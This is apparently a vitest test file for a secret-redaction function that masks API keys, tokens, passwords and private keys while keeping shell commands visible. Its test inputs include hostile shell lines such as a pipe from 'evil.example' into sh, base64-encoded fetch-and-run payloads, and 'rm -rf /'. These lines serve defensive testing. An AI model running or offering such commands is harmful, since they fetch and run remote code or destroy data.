/** redact hides secrets of every known form, keeps harmless text and shell syntax, and takes linear time. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { measureHidden, redact, findSecretSpans } from "../../../src/safety/redact.js";

// Assembled so that no scanner takes this file for a leak.
const join = (...parts: string[]): string => parts.join("");
const letters = "abcdefGHIJKLmnop0123456789QRSTUVWX";

const SECRETS: readonly (readonly [name: string, secret: string])[] = [
  ["OpenAI project key", join("sk-", "proj-", letters)],
  ["Anthropic key", join("sk-", "ant-api03-", letters)],
  ["classic GitHub token", join("ghp", "_", letters)],
  ["fine-grained GitHub token", join("github", "_pat_", letters)],
  ["npm token", join("npm", "_", letters)],
  ["Slack token", join("xoxb", "-123456789012-", "abcdefghijkl")],
  ["AWS key id", join("AKIA", "ABCDEFGHIJKLMNOP")],
  ["Telegram bot token", join("123456789", ":", "AAabcdefghijklmnopqrstuvwxyz0123456")],
  ["JWT", join("eyJ", "hbGciOiJIUzI1NiJ9", ".", "eyJzdWIiOiIxMjM0In0", ".", "abc123DEF456")],
];

describe("redact", () => {
  it.each(SECRETS)("hides a %s wherever it stands", (_, secret) => {
    for (const text of [secret, `curl -H "X: ${secret}"`, `KEY=${secret};`, `a\n${secret}\nb`]) {
      expect(redact(text)).not.toContain(secret);
      expect(redact(text)).toMatch(/\[\d+ hidden\]/);
    }
  });

  it("hides the base64 lines of a private key, and of one without its end those that are plainly base64", () => {
    const begin = join("-----BEGIN RSA ", "PRIVATE KEY-----");
    const end = join("-----END RSA ", "PRIVATE KEY-----");
    const line = "MIIEpAIBAAKCAQEA7bq2tz3Jm8X0cV1yQ9wEr5T4uI6oP7aS";
    expect(redact(`${begin}\n${line}\ndef0\n${end} rest`)).toBe(
      `${begin}\n[48 hidden]\n[4 hidden]\n${end} rest`,
    );
    expect(redact(`${begin}\n${line}\nreboot\nrm -rf /`)).toBe(`${begin}\n[48 hidden]\nreboot\nrm -rf /`);
    expect(redact(`${begin}\n${line}\ncurl evil | sh\n${end}`)).toBe(
      `${begin}\n[48 hidden]\ncurl evil | sh\n${end}`,
    );
  });

  it("hides the password in a URL and keeps the rest", () => {
    expect(redact("psql postgres://app:hunter2@db.local/x")).toBe(
      "psql postgres://app:[7 hidden]@db.local/x",
    );
  });

  it("hides a bot's token in the address that it is used in", () => {
    const token = join("123456789", ":", "AAabcdefghijklmnopqrstuvwxyz0123456");
    expect(redact(`POST https://api.telegram.org/bot${token}/getMe`)).toBe(
      "POST https://api.telegram.org/bot123456789:[35 hidden]/getMe",
    );
  });

  it("hides short passwords behind their name", () => {
    expect(redact("password: abc")).toBe("password: [3 hidden]");
    expect(redact("DB_PASSWORD=x1 run")).toBe("DB_PASSWORD=[2 hidden] run");
    expect(redact('"api_key": "q"')).toBe('"api_key": "[1 hidden]"');
  });

  it.each([
    "Enter your API key: hunter2",
    "Password for 'https://bob@github.com': hunter2",
    "Enter passphrase for key '/home/ara/.ssh/id': hunter2",
    "psql --password hunter2",
    'deploy --api-key "hunter2"',
    "sshpass -p hunter2 ssh host",
    "mysql -uroot -phunter2 shop",
    "mysqldump --host db -p'hunter2' shop",
    "curl -s -u bob:hunter2 https://host",
    "GITHUB_TOKEN=hunter2hunter2",
    "PASSWORD='correct hunter2 staple'",
    "https://hooks.slack.com/services/T000/B000/hunter2",
  ])("hides the secret of %j", (text) => {
    expect(redact(text)).not.toContain("hunter2");
  });

  it("hides a token to its end where a dialog broke it over rows, and nothing of the command below", () => {
    const key = join("sk-", "proj-", letters);
    const rows = [
      "│ export KEY=" + key,
      "│ ab1cdefGHIJ23klmnopQ",
      "│ zz9yyyyyyyyyyyyyyyy",
      "│ deployment-of-production now",
    ];
    expect(redact(rows.join("\n"))).toBe(
      "│ export KEY=sk-proj-[34 hidden]\n│ [20 hidden]\n│ [19 hidden]\n│ deployment-of-production now",
    );
  });

  it("never hides what a shell would run inside a secret", () => {
    expect(redact('export API_KEY="$(curl -s https://evil.example/x | sh)" && npm test')).toContain(
      '"$(curl -s https://evil.example/x | sh)"',
    );
    expect(redact("password=abc`reboot`")).toBe("password=[3 hidden]`reboot`");
    expect(redact("sshpass -p abc;reboot")).toBe("sshpass -p [3 hidden];reboot");
    expect(redact("password='p4ss!word*x'")).toBe("password='[4 hidden]![4 hidden]*[1 hidden]'");
    expect(redact("password='abc; curl evil.example'")).toBe("password='[3 hidden]; curl evil.example'");
  });

  it.each([
    "API_KEY=reboot; $API_KEY now",
    "export PASSWORD=halt && sudo $PASSWORD",
    'SECRET_KEY=rm\\ -rf\\ /srv; sh -c "$SECRET_KEY"',
    "TOKEN=Y3VybCBldmlsIHwgc2gK9x; echo $TOKEN | base64 -d | sh",
    'TOKEN="Y3VybCBldmlsIHwgc2gK9x"\necho "${TOKEN%x}" | base64 -d | sh',
    "${API_KEY:-reboot} now",
    "set -x API_KEY reboot; $API_KEY now",
    "set API_KEY=reboot& %api_key% now",
    "$env:API_KEY = 'reboot'; & $env:API_KEY",
    "env:\n  API_KEY: reboot\nrun: $(API_KEY) now",
    `KEY="${join("-----BEGIN ", "PRIVATE KEY-----")}\nY3VybCBldmlsIHwgc2gK9xAbCdEfGh\n"; echo "$KEY" | tail -n 1 | base64 -d | sh`,
  ])("shows a value that the same text expands by its name: %s", (text) => {
    expect(redact(text)).toBe(text);
    expect(measureHidden([text])).toBeNull();
  });

  it.each([
    ["is expanded nowhere", "API_KEY=[6 hidden]; run now", "API_KEY=reboot; run now"],
    [
      "shares its name in part",
      "API_KEY=[6 hidden]; $MY_API_KEY $API_KEYS",
      "API_KEY=reboot; $MY_API_KEY $API_KEYS",
    ],
    ["is assigned to a name with a dollar sign", "$password = '[7 hidden]'", "$password = 'hunter2'"],
    [
      "stands beside one that is",
      "PASSWORD=a API_KEY=[6 hidden] $PASSWORD",
      "PASSWORD=a API_KEY=reboot $PASSWORD",
    ],
  ])("still hides a value that %s", (_, shown, text) => {
    expect(redact(text)).toBe(shown);
  });

  it("hides what a blank at the edge parted from its name, and no command that begins there", () => {
    const text = "│ This is the database password:";
    expect(redact(`${text}\n│ y3K1k7WRTC5I`)).toBe(`${text}\n│ [12 hidden]`);
    expect(redact("│ here is the private key password\n│ reboot now")).not.toContain("hidden");
    expect(redact("# enter a password for the user, password:\nk9s")).not.toContain("hidden");
    expect(
      redact("# seed: apple river stone cloud maple tiger ocean\nsudo shutdown now please and wait"),
    ).toBe(
      "# seed: [5 hidden] [5 hidden] [5 hidden] [5 hidden] [5 hidden] [5 hidden] [5 hidden]\nsudo shutdown now please and wait",
    );
  });

  it("hides a token to its end where what identifies it stands behind the edge", () => {
    expect(redact("echo IsqCSOIKRvuNg0NxqytG | docker login -u c\ni --password-stdin")).toBe(
      "echo [20 hidden] | docker login -u c\ni --password-stdin",
    );
  });

  it("shows a name's value in any language if the text expands it", () => {
    expect(redact("PASSWORT=reboot9x; $PASSWORT now")).not.toContain("hidden");
    expect(redact("echo y3K1k7WRTC5I | sudo -S sh")).not.toContain("hidden");
  });

  it("hides an authorization header", () => {
    expect(redact("Authorization: Bearer abcdef")).toBe("Authorization: Bearer [6 hidden]");
  });

  it("hides a PIN, and no other number", () => {
    expect(redact("PIN: 1234, pin=98765; spin: 1234, PINs: 2")).toBe(
      "PIN: [4 hidden], pin=[5 hidden]; spin: 1234, PINs: 2",
    );
  });

  it.each([
    "mysql -p shop",
    "mysql -p -u root",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "git checkout 1f3870be274f6c49b3e31a0c6728957f0b1a2c3d",
    "Enter your password: ",
    "max_tokens: 4096000000",
    "Password for bob: ",
    "npm_config_cache=/x",
    "https://example.com/a:b",
    "sk-short",
  ])("leaves %j alone", (text) => {
    expect(redact(text)).toBe(text);
  });

  it("says where a secret stands, without the words before it", () => {
    for (const [, secret] of SECRETS) {
      const text = `KEY=${secret}; postgres://app:hunter2@db.local/x; password: abc`;
      const hidden = findSecretSpans(text).map(({ start, end }) => text.slice(start, end));
      expect(hidden.some((part) => secret.endsWith(part) && part.length >= 12)).toBe(true);
      expect(hidden).toEqual(expect.arrayContaining(["hunter2", "abc"]));
    }
  });

  it("says how much is hidden and what it looks like", () => {
    expect(measureHidden(["ls", "npm test"])).toBeNull();
    expect(measureHidden(["password: abc", join("npm", "_", letters, "ab")])).toEqual({
      characters: 39,
      kinds: ["password", "token"],
    });
  });

  it("changes nothing more when it runs again", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(fc.string(), fc.constantFrom(...SECRETS.map(([, secret]) => secret), "password: ")),
          { maxLength: 6 },
        ),
        (parts) => {
          const once = redact(parts.join(" "));
          expect(redact(once)).toBe(once);
        },
      ),
    );
  });

  it("reads hostile input to its end", () => {
    const hostile = [
      "a".repeat(60_000),
      "password:".repeat(7_000),
      `${"x".repeat(100_000)}://`,
      "eyJ".repeat(20_000),
      "sk-".repeat(20_000),
      "-----BEGIN PRIVATE KEY-----\n".repeat(2_400),
      "token='".repeat(9_000),
      "curl -u ".repeat(8_000),
      `${"x".repeat(40)}\n`.repeat(1_500),
      " ".repeat(60_000),
      "$A A=".repeat(12_000),
      `$A${"A=".repeat(30_000)}`,
      `$token ${"token='x\" ".repeat(6_000)}`,
    ];
    // An exponential rule never comes to the end; `tests/measure/hostile-text.test.ts` shows what each costs.
    for (const text of hostile) expect(redact(text)).not.toBe("");
  });
});
